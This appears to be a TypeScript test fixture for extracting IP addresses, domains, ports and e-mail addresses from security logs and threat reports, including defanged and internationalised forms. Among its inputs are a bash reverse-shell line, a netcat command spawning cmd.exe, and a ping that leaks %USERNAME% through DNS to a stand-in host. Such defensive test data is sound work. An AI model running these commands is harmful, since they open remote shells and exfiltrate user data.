import type { Group } from './corpus.js';

export const HOSTS: readonly Group[] = [
  {
    name: 'IPv4 in logs', source: 'log formats of sshd, iptables, Cisco ASA, Apache (combined), Windows Firewall, Zeek, netstat; addresses of RFC 5737 and RFC 1918',
    cases: String.raw`
Feb  3 04:12:55 web1 sshd[2211]: Failed password for root from 203.0.113.44 port 51522 ssh2
=> ipv4 203.0.113.44 | port 51522
kernel: IN=eth0 OUT= SRC=198.51.100.23 DST=192.0.2.10 LEN=60 PROTO=TCP SPT=40112 DPT=3389 WINDOW=1024
=> ipv4 198.51.100.23 | ipv4 192.0.2.10 | port 40112 | port 3389
%ASA-6-302013: Built outbound TCP connection 4711 for outside:203.0.113.5/443 (203.0.113.5/443) to inside:10.1.1.7/49811
=> ipv4 203.0.113.5 | ipv4 10.1.1.7
198.51.100.77 - - [12/Jan/2026:10:21:09 +0000] "GET /index.php HTTP/1.1" 200 512 "-" "-"
=> ipv4 198.51.100.77
2026-01-12 10:21:09 DROP TCP 192.168.1.20 203.0.113.9 50122 445 0 - 0 0 0 - - - SEND
=> ipv4 192.168.1.20 | ipv4 203.0.113.9
  TCP    10.0.0.5:49722         203.0.113.80:4444      ESTABLISHED     5120
=> ipv4 10.0.0.5 | port 49722 | ipv4 203.0.113.80 | port 4444
  TCP    0.0.0.0:135            0.0.0.0:0              LISTENING       996
=> ipv4 0.0.0.0 | port 135
src_ip=192.0.2.44,dst_ip=198.51.100.9,dst_port=53
=> ipv4 192.0.2.44 | ipv4 198.51.100.9 | port 53
{"srcip":"192.0.2.1","dstip":"198.51.100.2","action":"deny"}
=> ipv4 192.0.2.1 | ipv4 198.51.100.2
Received: from mail.evil-sender.com (unknown [203.0.113.66]) by mx.corp.com
=> domain mail.evil-sender.com | ipv4 203.0.113.66 | domain mx.corp.com
X-Originating-IP: [198.51.100.200]
=> ipv4 198.51.100.200
client 203.0.113.7#53211 (evil-dns.com): query: evil-dns.com IN TXT
=> ipv4 203.0.113.7 | domain evil-dns.com
Connection from ('203.0.113.12', 60123)
=> ipv4 203.0.113.12
peer <203.0.113.13> timed out; peer 203.0.113.14; retry
=> ipv4 203.0.113.13 | ipv4 203.0.113.14
route add 198.51.100.0/24 via 192.0.2.1
=> ipv4 198.51.100.0 | ipv4 192.0.2.1
block 192.0.2.1-192.0.2.50 at the edge
=> ipv4 192.0.2.1 | ipv4 192.0.2.50
ssh root@203.0.113.5
=> ipv4 203.0.113.5
nmap -sS -p- 203.0.113.0/28
=> ipv4 203.0.113.0
ping 8.8.8.8.
=> ipv4 8.8.8.8
beacon -> 203.0.113.99:8443, sleep 60s
=> ipv4 203.0.113.99 | port 8443
The C2 server (203.0.113.21) answered.
=> ipv4 203.0.113.21
IP:203.0.113.22
=> ipv4 203.0.113.22
process -ip4:198.51.100.123
=> ipv4 198.51.100.123
"203.0.113.31","203.0.113.32";203.0.113.33|203.0.113.34
=> ipv4 203.0.113.31 | ipv4 203.0.113.32 | ipv4 203.0.113.33 | ipv4 203.0.113.34
New-NetFirewallRule -RemoteAddress 203.0.113.40 -LocalPort 4445
=> ipv4 203.0.113.40 | port 4445
bash -i >& /dev/tcp/203.0.113.41/9001 0>&1
=> ipv4 203.0.113.41 | port 9001
nc 203.0.113.42 4444 -e cmd.exe
=> ipv4 203.0.113.42
IP 203.0.113.46.443 > 10.0.0.1.51234: Flags [S]
=> ipv4 203.0.113.46 | port 443 | ipv4 10.0.0.1 | port 51234
ip.addr==203.0.113.47 and tcp
=> ipv4 203.0.113.47
| where SrcIp == "203.0.113.48"
=> ipv4 203.0.113.48
203.0.113.49's owner
=> ipv4 203.0.113.49
tunnel endpoint 203[.]0.113.43 and 203.0.113[.]44
=> ipv4 203.0.113.43 | ipv4 203.0.113.44
198(.)51(.)100(.)3
=> ipv4 198.51.100.3
198{.}51{.}100{.}4
=> ipv4 198.51.100.4
198[dot]51[dot]100[dot]5
=> ipv4 198.51.100.5
198 [.] 51 [.] 100 [.] 6
=> ipv4 198.51.100.6
198.51.100[.7
=> ipv4 198.51.100.7
198.51.100.]8
=> ipv4 198.51.100.8
198\.51\.100\.9
=> ipv4 198.51.100.9
203[.]0[.]113[.]45[:]8080
=> ipv4 203.0.113.45 | port 8080`,
  },
  {
    name: 'IPv6', source: 'RFC 4291 section 2.2, RFC 5952, RFC 3849 (documentation block), RFC 6874 (zones)',
    cases: String.raw`
Accepted publickey for ops from 2001:db8::5 port 40022 ssh2
=> ipv6 2001:db8::5 | port 40022
[2001:db8:85a3::8a2e:370:7334]:443
=> ipv6 2001:db8:85a3::8a2e:370:7334 | port 443
-ip6:(2001:0db8:85a3:0000:0000:8a2e:0370:7335,2001:db8:85a3:0:0:8a2e:370:7336,::1)
=> ipv6 2001:db8:85a3::8a2e:370:7335 | ipv6 2001:db8:85a3::8a2e:370:7336 | ipv6 ::1
client fe80::1ff:fe23:4567:890a%eth2 joined
=> ipv6 fe80::1ff:fe23:4567:890a
LLMNR query from fe80::d4f1:99ab:1c2d:3e4f%12
=> ipv6 fe80::d4f1:99ab:1c2d:3e4f
"IPAddress":"::ffff:203.0.113.50"
=> ipv6 ::ffff:203.0.113.50
ip -6 route add 2001:db8:1::/48 dev wg0
=> ipv6 2001:db8:1::
src=2001:DB8:0:0:8:800:200C:417A dst=2001:db8::99
=> ipv6 2001:db8::8:800:200c:417a | ipv6 2001:db8::99
2001[:]db8[:][:]77 was seen
=> ipv6 2001:db8::77
addr:2001:db8::abcd.
=> ipv6 2001:db8::abcd
Listening on [::1]:631
=> ipv6 ::1 | port 631
ff02::fb mdns
=> ipv6 ff02::fb`,
  },
  {
    name: 'domains in prose and logs', source: 'manner of vendors’ reports and of DNS, proxy and mail logs; suffixes by publicsuffix.org; IDN by RFC 5890',
    cases: String.raw`
The implant resolves update.evil-cdn.com every hour.
=> domain update.evil-cdn.com
Domains: evil-one.com, evil-two.net; evil-three.org and evil-four.co.uk.
=> domain evil-one.com | domain evil-two.net | domain evil-three.org | domain evil-four.co.uk
query[A] cdn.badhost.top from 10.0.0.7
=> domain cdn.badhost.top | ipv4 10.0.0.7
SNI=login.micros0ft-auth.xyz
=> domain login.micros0ft-auth.xyz
CONNECT evil-proxy.info:443 HTTP/1.1
=> domain evil-proxy.info | port 443
Host: www.evil-shop.biz
=> domain www.evil-shop.biz
*.evil-wildcard.com
=> domain evil-wildcard.com
nslookup -type=txt c2.evil-txt.io 203.0.113.53
=> domain c2.evil-txt.io | ipv4 203.0.113.53
ping -n 1 %USERNAME%.exfil-zone.com
=> domain exfil-zone.com
dig +short evil-dig.ru @8.8.8.8
=> domain evil-dig.ru | ipv4 8.8.8.8
xn--80ak6aa92e.com was registered yesterday
=> domain xn--80ak6aa92e.com
Запрос к домену пример-атака.рф заблокирован
=> domain пример-атака.рф
Die Domain bücher-betrug.de wurde gesperrt.
=> domain bücher-betrug.de
Der Server evil-server.de, der am 3.2. auffiel, antwortet nicht mehr.
=> domain evil-server.de
Le domaine malveillant-exemple.fr a été bloqué.
=> domain malveillant-exemple.fr
该木马会访问evil-china.cn下载文件
=> domain evil-china.cn
攻击者IP为203.0.113.12，端口为8080
=> ipv4 203.0.113.12 | port 8080
请求域名：evil-cn2.com，端口：8080
=> domain evil-cn2.com | port 8080
恶意域名 例子.中国 已封禁
=> domain 例子.中国
マルウェアはevil-japan.jpに接続します
=> domain evil-japan.jp
сервер evil-rus.ru отвечает
=> domain evil-rus.ru
xn--e1afmkfd.xn--p1ai
=> domain xn--e1afmkfd.xn--p1ai
EVIL-UPPER.COM
=> domain evil-upper.com
Resolved SolarWinds.com for the updater
=> domain solarwinds.com
payload at evil-bucket.s3.amazonaws.com
=> domain evil-bucket.s3.amazonaws.com
hosted on evil-user.github.io and abc.ngrok-free.app
=> domain evil-user.github.io | domain abc.ngrok-free.app
duckdns.org abuse: evilrat.duckdns.org
=> domain duckdns.org | domain evilrat.duckdns.org
DGA: kq3v9e7y2mfz.top, qpwoeiruty.click
=> domain kq3v9e7y2mfz.top | domain qpwoeiruty.click
abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion
=> domain abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion
_dmarc.evil-mail.com TXT record
=> domain _dmarc.evil-mail.com
_ldap._tcp.evil-ad.net
=> domain _ldap._tcp.evil-ad.net
shortener t.co used
=> domain t.co
chat over t.me/evilbot
=> domain t.me
163.com mail
=> domain 163.com
"domain": "evil-json.net",
=> domain evil-json.net
domain=evil-kv.net&x=1
=> domain evil-kv.net
%2Fbad-encoded.org
=> domain bad-encoded.org
evil-path.com/gate/panel.php?id=7
=> domain evil-path.com
evil-path2.com/files/run.sh
=> domain evil-path2.com
Blocked sender: @evil-sender.com
=> domain evil-sender.com
some text with news.ycombinator.com in it
=> domain news.ycombinator.com
secure-paypal.support asks for passwords
=> domain secure-paypal.support
Set-Cookie: sid=1; Domain=.evil-cookie.com; Path=/
=> domain evil-cookie.com
corp.contoso.com\jsmith logged on
=> domain corp.contoso.com
evil-plain.pl was seen in Poland
=> domain evil-plain.pl
C2: evil-ai.ai, evil-in.in, evil-cc.cc
=> domain evil-ai.ai | domain evil-in.in | domain evil-cc.cc
bit.ly and tinyurl.com
=> domain bit.ly | domain tinyurl.com
CNAME evil.azurewebsites.net.
=> domain evil.azurewebsites.net`,
  },
  {
    name: 'defanged domains', source: 'ways of defanging seen in vendors’ reports, in InQuest’s and CISA’s advisories',
    cases: String.raw`
evil-a[.]com
=> domain evil-a.com
evil-b(.)com and evil-c{.}com
=> domain evil-b.com | domain evil-c.com
evil-d[dot]com, evil-e(dot)net, evil-f{dot}org
=> domain evil-d.com | domain evil-e.net | domain evil-f.org
evil-g [.] com
=> domain evil-g.com
evil-h dot com
=> domain evil-h.com
visit evil-i DOT co DOT uk now
=> domain evil-i.co.uk
evil-j\.com
=> domain evil-j.com
evil-k[.com
=> domain evil-k.com
evil-l.]com
=> domain evil-l.com
sub[.]evil-m[.]co[.]uk
=> domain sub.evil-m.co.uk
evil-n[.]zip and run[.]sh
=> domain evil-n.zip | domain run.sh
evil-o[.]com[:]8443
=> domain evil-o.com | port 8443
evil-p<.>com
=> domain evil-p.com
evil-q[[.]]com
=> domain evil-q.com
evil-r[DOT]com
=> domain evil-r.com
evil-s․com
=> domain evil-s.com
пример[.]рф
=> domain пример.рф
evil-t[.]example[.]
=> domain evil-t.example
Indicators⏎evil-u[.]top⏎evil-v[.]xyz
=> domain evil-u.top | domain evil-v.xyz
evil-w⟨zwsp⟩.com
=> domain evil-w.com`,
  },
  {
    name: 'e-mail', source: 'RFC 5321, RFC 5322, RFC 6531 (international addresses); header forms of mail logs',
    cases: String.raw`
From: "Mallory" <mallory@evil-mail.com>
=> email mallory@evil-mail.com
to=<bob.smith+invoice@contoso.com>, relay=none
=> email bob.smith+invoice@contoso.com
mailto:ceo@evil-corp.net?subject=hi
=> email ceo@evil-corp.net
UPN anna@contoso.local signed in
=> email anna@contoso.local
mallory[at]evil-mail[.]com
=> email mallory@evil-mail.com
mallory (at) evil-mail (dot) com
=> email mallory@evil-mail.com
mallory at evil-mail dot com
=> email mallory@evil-mail.com
mallory[@]evil-mail.com
=> email mallory@evil-mail.com
пользователь@пример.рф
=> email пользователь@пример.рф
用户@例子.中国
=> email 用户@例子.中国
请联系admin@evil-cn.com获取
=> email admin@evil-cn.com
jörg.müller@beispiel-firma.de schrieb
=> email jörg.müller@beispiel-firma.de
a_b-c%d@sub.evil-mail.co.uk.
=> email a_b-c%d@sub.evil-mail.co.uk
'alice@x-mail.com','bob@y-mail.com'
=> email alice@x-mail.com | email bob@y-mail.com
alice@x-mail.com;bob@y-mail.com
=> email alice@x-mail.com | email bob@y-mail.com
{"user":"eve@evil-mail.com","ip":"203.0.113.70"}
=> email eve@evil-mail.com | ipv4 203.0.113.70
1234567890@evil-mail.com
=> email 1234567890@evil-mail.com
_______@evil-mail.com
=> email _______@evil-mail.com
Return-Path: <bounce+bob=contoso.com@evil-lists.org>
=> email bounce+bob=contoso.com@evil-lists.org
user%40evil-mail.com
=> email user@evil-mail.com
Contact EVE@EVIL-MAIL.COM!
=> email eve@evil-mail.com
o'brien@contoso.com
=> email o'brien@contoso.com
git clone git@github.com:evil/tool.git
=> email git@github.com
Reply to decrypt@onionmail.org or backup2@proton.me
=> email decrypt@onionmail.org | email backup2@proton.me
some text with user@abc.def.net> in it
=> email user@abc.def.net
user=carol@contoso.com&pw=x
=> email carol@contoso.com`,
  },
];
